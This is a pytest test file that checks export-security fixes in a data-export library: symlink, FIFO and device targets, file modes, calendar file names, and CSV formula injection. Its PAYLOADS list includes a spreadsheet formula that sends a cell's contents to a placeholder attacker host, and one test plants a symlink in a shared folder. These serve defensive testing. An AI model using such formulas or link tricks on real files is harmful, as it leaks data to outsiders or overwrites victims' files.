"""Category 11 of the 2026-11 red-team report: export security.

Findings F1 (library side), F2, F13, F16, F22 (calendars), F23, F29 and F36.

Each case is written from the report's reproduction, through the library (the
command line's flags are tested with the CLI).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import TypeVar

import hypothesis.strategies as st
import icalendar
import pytest
from hypothesis import HealthCheck, given, settings

import socforst
from socforst import Assignment, Dataset, Team, TeamMember
from socforst._atomic import atomic_write, staged_writes
from socforst.errors import ExportError, RowError, WriteError
from socforst.sources.cells import neutralise_formula, restore_formula
from socforst.sources.csv import CsvExporter
from socforst.sources.ics import IcsExporter
from socforst.sources.targets import holds_extract, same_location

STAMP = dt.datetime(2025, 2, 1, 12, 0, tzinfo=dt.UTC)
T = TypeVar("T")
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="POSIX file kinds")


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def member(member_id: str, name: str | None = None) -> TeamMember:
    return TeamMember(
        member_id=member_id, team_id="t1", name=name, employed_from=dt.date(2016, 1, 4)
    )


def unvalidated(record: T, **values: object) -> T:
    """*record* with *values* set past its validators, as a plugin's record might arrive."""
    for name, value in values.items():
        object.__setattr__(record, name, value)
    return record


def row_errors(error: ExportError) -> list[RowError]:
    """The members of an export error, typed."""
    return [problem for problem in error.exceptions if isinstance(problem, RowError)]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ---------------------------------------------------------------- F2: what a path points at


@POSIX
def test_a_symlinked_report_is_written_through_and_the_link_stays(tmp_path: Path) -> None:
    """F2: r.csv -> shared/r.csv; the shared report gets the new content, the link remains."""
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "r.csv").write_text("old shared report\n")
    (tmp_path / "shared" / "r.csv").chmod(0o644)
    (tmp_path / "r.csv").symlink_to(Path("shared") / "r.csv")

    with atomic_write(tmp_path / "r.csv") as handle:
        handle.write("new report\n")

    assert (tmp_path / "r.csv").is_symlink()
    assert "new report\n" == (tmp_path / "shared" / "r.csv").read_text()
    assert 0o644 == mode(tmp_path / "shared" / "r.csv")
    assert [] == [p for p in (tmp_path / "shared").iterdir() if p.name.startswith(".")]


@POSIX
def test_a_fifo_is_written_as_a_stream_and_stays_a_fifo(tmp_path: Path) -> None:
    """F2: ``-o FIFO`` gave the reader 0 bytes and replaced the FIFO; now the reader gets all."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    with atomic_write(fifo) as handle:
        handle.write("kind,subject_id\n" * 1000)
    reader.join(timeout=60)

    assert [b"kind,subject_id\n" * 1000] == received
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert ["pipe"] == os.listdir(tmp_path)


@POSIX
def test_the_null_device_is_written_to_and_never_replaced() -> None:
    """F2: as root, ``-o /dev/full`` replaced the device node; /dev/null stays a device."""
    before = os.lstat(os.devnull)
    with atomic_write(Path(os.devnull)) as handle:
        handle.write("discarded")
    after = os.lstat(os.devnull)
    assert stat.S_ISCHR(after.st_mode)
    assert (before.st_ino, before.st_rdev) == (after.st_ino, after.st_rdev)


@POSIX
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_device_is_a_clear_error_and_stays_a_device() -> None:
    """F2 + F29: /dev/full refuses the bytes: one WriteError naming /dev/full, the node stays."""
    with pytest.raises(WriteError) as caught, atomic_write(Path("/dev/full")) as handle:
        handle.write("x" * 100_000)
    assert "cannot write /dev/full: no space left on the device" == str(caught.value)
    assert stat.S_ISCHR(os.lstat("/dev/full").st_mode)


@POSIX
def test_dev_stdout_writes_into_what_standard_output_is(tmp_path: Path) -> None:
    """F2: ``-o /dev/stdout`` into a redirected stdout: the file gets the text, same inode."""
    out = tmp_path / "out.txt"
    out.write_text("")
    inode = out.stat().st_ino
    code = (
        "from pathlib import Path\nfrom socforst._atomic import atomic_write\n"
        "with atomic_write(Path('/dev/stdout')) as h:\n    h.write('through stdout\\n')\n"
    )
    with out.open("w") as stdout:
        subprocess.run([sys.executable, "-c", code], stdout=stdout, check=True, timeout=120)
    assert "through stdout\n" == out.read_text()
    assert inode == out.stat().st_ino
    assert ["out.txt"] == os.listdir(tmp_path)


def test_a_folder_as_target_names_the_users_path_not_a_temporary_file(tmp_path: Path) -> None:
    """F29: ``export xlsx:/tmp`` said ``/.tmp.5rkyxr04.tmp: Is a directory``."""
    with pytest.raises(WriteError) as caught, atomic_write(tmp_path) as handle:
        handle.write("x")
    assert f"cannot write {tmp_path}: it is a folder" == str(caught.value)


def test_a_file_in_a_folder_that_cannot_hold_files_names_the_users_path(tmp_path: Path) -> None:
    """F29: ``export json:/proc/x.json`` named ``/proc/.x.json.kact5phr.tmp``."""
    target = tmp_path / "missing" / "x.json"
    with pytest.raises(WriteError) as caught, atomic_write(target) as handle:
        handle.write("{}")
    message = str(caught.value)
    assert message.startswith(f"cannot write {target}: ")
    assert "does not exist" in message
    assert ".tmp" not in message


@POSIX
@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root (lchown)")
def test_a_link_planted_by_another_user_in_a_shared_folder_is_refused(tmp_path: Path) -> None:
    """F2: in a sticky world-writable folder (/tmp), a link of another user is not followed."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    victim = tmp_path / "victim.csv"
    victim.write_text("precious")
    link = shared / "report.csv"
    link.symlink_to(victim)
    os.lchown(link, 12345, 12345)

    with pytest.raises(WriteError, match="owned by another user"), atomic_write(link) as handle:
        handle.write("overwritten")
    assert "precious" == victim.read_text()


@POSIX
def test_a_multi_file_write_refuses_a_fifo_among_its_files(tmp_path: Path) -> None:
    """A stream cannot be part of an all-or-nothing set: refused before anything is written."""
    (tmp_path / "a.csv").write_text("old")
    os.mkfifo(tmp_path / "b.csv")

    def write_set() -> None:
        with staged_writes() as staged:
            for name in ("a.csv", "b.csv"):
                with staged.open(tmp_path / name) as handle:
                    handle.write("new")

    with pytest.raises(WriteError, match=r"b\.csv: it is a FIFO"):
        write_set()
    assert "old" == (tmp_path / "a.csv").read_text()


HOSTILE_KINDS = ["regular", "missing", "symlink", "dangling-symlink", "fifo", "folder", "null"]


def make_hostile(folder: Path, kind: str) -> Path:
    """A target of the given kind in *folder*; the FIFO gets a reader that drains it."""
    target = folder / "target.csv"
    if kind == "regular":
        target.write_text("old")
    elif kind == "symlink":
        (folder / "real.csv").write_text("old")
        target.symlink_to("real.csv")
    elif kind == "dangling-symlink":
        target.symlink_to("elsewhere.csv")
    elif kind == "fifo":
        os.mkfifo(target)
        threading.Thread(target=target.read_bytes, daemon=True).start()
    elif kind == "folder":
        target.mkdir()
    elif kind == "null":
        return Path(os.devnull)
    return target


def file_kind(path: Path) -> str:
    status = os.lstat(path)
    for name, check in (
        ("link", stat.S_ISLNK),
        ("fifo", stat.S_ISFIFO),
        ("dir", stat.S_ISDIR),
        ("chr", stat.S_ISCHR),
    ):
        if check(status.st_mode):
            return name
    return "file"


@POSIX
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(kind=st.sampled_from(HOSTILE_KINDS), text=st.text(st.characters(codec="utf-8"), max_size=50))
def test_no_write_changes_what_kind_of_thing_a_target_is(
    tmp_path_factory: pytest.TempPathFactory, kind: str, text: str
) -> None:
    """F2 as a property: a link stays a link, a FIFO a FIFO, a device a device, a folder a folder.

    A regular target (or the file a link points at) holds the new text; a
    folder is refused; no hidden file is left anywhere.
    """
    folder = tmp_path_factory.mktemp("hostile")
    target = make_hostile(folder, kind)
    before = None if kind in ("missing", "dangling-symlink") else file_kind(target)
    refused = ""
    try:
        with atomic_write(target, newline="") as handle:
            handle.write(text)
    except WriteError as error:
        refused = str(error)
    assert (f"cannot write {target}: it is a folder" if kind == "folder" else "") == refused
    if before is not None:
        assert before == file_kind(target)
    if kind in ("regular", "missing", "symlink", "dangling-symlink"):
        with target.open(encoding="utf-8", newline="") as handle:
            assert text == handle.read()
    assert [] == [p.name for p in folder.iterdir() if p.name.startswith(".")]


# ---------------------------------------------------------------- F13: formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A3,"open")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "'=1",
]


def test_formula_cells_are_neutralised_and_read_back_as_text(tmp_path: Path) -> None:
    """F13: each payload in a name comes back from the csv module with one ``'`` in front."""
    members = [member(f"m{i}", name) for i, name in enumerate(PAYLOADS)]
    CsvExporter(tmp_path).write_dataset(Dataset(teams=[Team("t1", "T")], members=members))

    names = [row["name"] for row in read_csv(tmp_path / "members.csv")]
    assert [f"'{payload}" for payload in PAYLOADS] == names
    assert PAYLOADS == [restore_formula(name) for name in names]


def test_numbers_and_dates_are_never_neutralised(tmp_path: Path) -> None:
    """Only text cells: a cost of -1500.5, a year and ISO dates stay numbers and dates."""
    dataset = Dataset(
        teams=[Team("-t1", "-minus team")],
        members=[member("-m1", "+46 8 123")],
        # No number of the models may be negative; a credit note from a plugin could be.
        costs=[
            unvalidated(
                socforst.YearlyCost(year=2025, team_cost_sek=1.0, consultant_rate_sek=1000.0),
                team_cost_sek=-1500.5,
            )
        ],
    )
    CsvExporter(tmp_path).write_dataset(dataset)

    [cost] = read_csv(tmp_path / "costs.csv")
    [row] = read_csv(tmp_path / "members.csv")
    [team] = read_csv(tmp_path / "teams.csv")
    assert ("2025", "-1500.5") == (cost["year"], cost["team_cost_sek"])
    assert ("'-m1", "'+46 8 123", "2016-01-04") == (
        row["member_id"],
        row["name"],
        row["employed_from"],
    )
    assert ("'-t1", "'-minus team") == (team["team_id"], team["name"])


def test_raw_keeps_every_cell_as_it_is(tmp_path: Path) -> None:
    """``raw=True`` (``--raw``) is for programs: the payloads come back unchanged."""
    members = [member(f"m{i}", name) for i, name in enumerate(PAYLOADS)]
    socforst.open_exporter(f"csv:{tmp_path}", raw="true").write_dataset(Dataset(members=members))
    assert PAYLOADS == [row["name"] for row in read_csv(tmp_path / "members.csv")]


def test_deadline_csv_cells_are_neutralised_too(tmp_path: Path) -> None:
    """write_deadlines neutralises its text columns (the reference), never the dates."""
    deadline = socforst.EvaluatedDeadline(
        kind="preassessment",
        subject_id="r1",
        district="farsta",
        starts_on=dt.date(2025, 3, 3),
        due_on=dt.date(2025, 3, 17),
        met_on=None,
        status=socforst.DeadlineStatus.OVERDUE,
        reference="=1+1",
    )
    CsvExporter(tmp_path).write_deadlines([deadline])
    [row] = read_csv(tmp_path / "deadlines.csv")
    assert ("'=1+1", "2025-03-17") == (row["reference"], row["due_on"])


@given(st.text(max_size=20))
def test_neutralising_can_be_undone_and_never_leaves_a_formula_start(text: str) -> None:
    """For any text, restore(neutralise(t)) == t, and no result starts with = + - @ tab CR."""
    neutral = neutralise_formula(text)
    assert text == restore_formula(neutral)
    assert neutral[:1] not in {"=", "+", "-", "@", "\t", "\r"}


# ---------------------------------------------------------------- F16: modes


@POSIX
def test_a_new_csv_export_is_readable_by_its_owner_only(tmp_path: Path, umask_022: None) -> None:
    """F16: under umask 022 the files were -rw-r--r--; now 0600 files in a 0700 folder."""
    folder = tmp_path / "export" / "csv"
    CsvExporter(folder).write_dataset(Dataset(members=[member("m1", "Anna Andersson")]))
    assert {0o600} == {mode(p) for p in folder.iterdir()}
    assert (0o700, 0o700) == (mode(folder), mode(folder.parent))


@POSIX
def test_a_mode_option_is_taken_by_name_and_applies_to_every_file(
    tmp_path: Path, umask_022: None
) -> None:
    """``open_exporter("csv:DIR", mode=0o640)``: files 0640, the new folder 0750."""
    folder = tmp_path / "shared"
    socforst.open_exporter(f"csv:{folder}", mode=0o640).write_dataset(Dataset())
    socforst.open_exporter(f"ics:{tmp_path / 'cal'}", mode="640").write_dataset(
        Dataset(members=[member("m1")])
    )
    assert {0o640} == {mode(p) for p in folder.iterdir()}
    assert 0o750 == mode(folder)
    assert (0o640, 0o750) == (mode(tmp_path / "cal" / "m1.ics"), mode(tmp_path / "cal"))


@POSIX
def test_a_replaced_export_file_keeps_its_own_mode(tmp_path: Path, umask_022: None) -> None:
    """An owner who made members.csv 0644 on purpose keeps 0644 after the next export."""
    CsvExporter(tmp_path).write_dataset(Dataset())
    (tmp_path / "members.csv").chmod(0o644)
    CsvExporter(tmp_path).write_dataset(Dataset(members=[member("m1")]))
    assert (0o644, 0o600) == (mode(tmp_path / "members.csv"), mode(tmp_path / "teams.csv"))


# ---------------------------------------------------------------- F23: unencodable text


def test_a_lone_surrogate_is_an_error_naming_table_row_and_column_and_the_old_files_stay(
    tmp_path: Path,
) -> None:
    r"""F23: ``"A\ud800"`` in a name gave "unexpected UnicodeEncodeError"; now a row error.

    The models refuse a lone surrogate now; the exporter must still be safe for
    a record that escaped validation (a plugin's source). The value is not
    shown, and every old file is byte-identical.
    """
    CsvExporter(tmp_path).write_dataset(Dataset(members=[member("m1", "Anna")]))
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    bad = Dataset(members=[member("m1", "Anna"), unvalidated(member("m2"), name="A\ud800")])

    with pytest.raises(ExportError) as caught:
        CsvExporter(tmp_path).write_dataset(bad)

    [problem] = row_errors(caught.value)
    assert ("members", 3, "name") == (problem.table, problem.row, problem.column)
    assert "U+D800" in problem.reason
    assert "A\ud800" not in str(problem)
    assert before == {p.name: p.read_bytes() for p in tmp_path.iterdir()}


def test_text_outside_the_files_encoding_is_an_error_not_a_crash(tmp_path: Path) -> None:
    """A cp1252 export of a name with a character cp1252 lacks: every such cell, at once."""
    bad = Dataset(members=[member("m1", "Łukasz"), member("m2", "Åsa"), member("m3", "Zoë ☃")])
    with pytest.raises(ExportError) as caught:
        CsvExporter(tmp_path, encoding="cp1252").write_dataset(bad)
    assert [(2, "name"), (4, "name")] == [(e.row, e.column) for e in row_errors(caught.value)]
    assert [] == list(tmp_path.iterdir())


def test_a_lone_surrogate_in_a_task_is_refused_by_the_calendar_exporter(tmp_path: Path) -> None:
    """F23 for ICS: the assignment's row and column are named; no calendar is written."""
    assignment = Assignment(
        assignment_id="a1",
        member_id="m1",
        district="farsta",
        start=dt.date(2025, 3, 3),
        end=dt.date(2025, 3, 7),
    )
    assignment = unvalidated(assignment, task="x\udc80")
    with pytest.raises(ExportError) as caught:
        IcsExporter(tmp_path).write_dataset(
            Dataset(members=[member("m1")], assignments=[assignment])
        )
    [problem] = row_errors(caught.value)
    assert ("assignments", 1, "task") == (problem.table, problem.row, problem.column)
    assert [] == list(tmp_path.iterdir())


# ---------------------------------------------------------------- F36, F22: calendars


@pytest.mark.parametrize("member_id", ["..", ".", ".hidden", "deadlines", "NUL", "com1"])
def test_a_member_id_that_would_make_an_odd_calendar_file_is_refused(
    tmp_path: Path, member_id: str
) -> None:
    """F36: id ``..`` gave a hidden ``...ics``; such ids are refused, nothing is written."""
    with pytest.raises(ExportError) as caught:
        IcsExporter(tmp_path).write_dataset(Dataset(members=[member("m1"), member(member_id)]))
    [problem] = row_errors(caught.value)
    assert ("members", 2, "member_id") == (problem.table, problem.row, problem.column)
    assert "cannot name a calendar file" in problem.reason
    assert [] == list(tmp_path.iterdir())


def test_ids_differing_only_in_case_would_share_a_file_and_are_refused(tmp_path: Path) -> None:
    """On Windows and macOS M1.ics and m1.ics are one file: one calendar would be lost."""
    with pytest.raises(ExportError) as caught:
        IcsExporter(tmp_path).write_dataset(Dataset(members=[member("m1"), member("M1")]))
    [problem] = row_errors(caught.value)
    assert (2, "member_id") == (problem.row, problem.column)
    assert "differs only in case from the id of row 1" in problem.reason


def test_the_calendar_of_a_former_member_is_removed_and_other_files_stay(tmp_path: Path) -> None:
    """F36: m2 left the data: m2.ics goes; deadlines.ics and a user's own holidays.ics stay."""
    IcsExporter(tmp_path, stamped_at=STAMP).write_dataset(
        Dataset(members=[member("m1"), member("m2")])
    )
    IcsExporter(tmp_path, stamped_at=STAMP).write_deadlines([])
    (tmp_path / "holidays.ics").write_bytes(b"BEGIN:VCALENDAR\r\nPRODID:-//other//EN\r\n")
    (tmp_path / "notes.txt").write_text("mine")

    IcsExporter(tmp_path, stamped_at=STAMP).write_dataset(Dataset(members=[member("m1")]))

    assert ["deadlines.ics", "holidays.ics", "m1.ics", "notes.txt"] == sorted(os.listdir(tmp_path))


def test_an_assignment_ending_on_the_last_date_is_an_event_with_a_duration(tmp_path: Path) -> None:
    """F22: end 9999-12-31 crashed with OverflowError; now a DURATION counts the 31 days."""
    assignment = Assignment(
        assignment_id="a1",
        member_id="m1",
        district="farsta",
        start=dt.date(9999, 12, 1),
        end=dt.date(9999, 12, 31),
    )
    IcsExporter(tmp_path, stamped_at=STAMP).write_dataset(
        Dataset(members=[member("m1")], assignments=[assignment])
    )
    [event] = icalendar.Calendar.from_ical((tmp_path / "m1.ics").read_bytes()).walk("VEVENT")
    assert dt.date(9999, 12, 1) == event.decoded("DTSTART")
    assert dt.timedelta(days=31) == event.decoded("DURATION")
    assert "DTEND" not in event


# ---------------------------------------------------------------- F1: the library side


def test_the_same_place_is_recognised_through_dots_links_and_hard_links(tmp_path: Path) -> None:
    """F1: ``-o city.json`` onto ``--source json:city.json`` in any spelling is the same place."""
    city = tmp_path / "city.json"
    city.write_text("{}")
    (tmp_path / "link.json").symlink_to(city)
    os.link(city, tmp_path / "hard.json")
    extract = tmp_path / "extract"
    extract.mkdir()

    assert same_location(city, tmp_path / "sub" / ".." / "city.json")
    assert same_location(city, tmp_path / "link.json")
    assert same_location(city, tmp_path / "hard.json")
    assert same_location(extract, extract / "members.csv")  # into the source folder
    assert same_location(extract / "members.csv", extract)  # over the source's folder
    assert not same_location(city, tmp_path / "copy.json")
    assert not same_location(extract, tmp_path / "extract2")


def test_an_extract_is_a_file_or_a_folder_holding_a_table_file(tmp_path: Path) -> None:
    """F1: ``demo csv:my-real-extract`` replaced 14 files; such a folder holds an extract."""
    CsvExporter(tmp_path / "real").write_dataset(Dataset())
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "notes.txt").write_text("x")
    (tmp_path / "city.json").write_text("{}")

    assert holds_extract(tmp_path / "real")
    assert holds_extract(tmp_path / "city.json")
    assert not holds_extract(tmp_path / "other")
    assert not holds_extract(tmp_path / "missing")
    assert not holds_extract(Path(os.devnull))


def test_csv_and_json_text_of_the_neutraliser_is_importable_for_query_output() -> None:
    """The one place the command line imports for ``--format csv``: socforst.sources.cells."""
    out = io.StringIO()
    csv.writer(out).writerow([neutralise_formula("=1"), 5])
    assert "'=1,5\r\n" == out.getvalue()
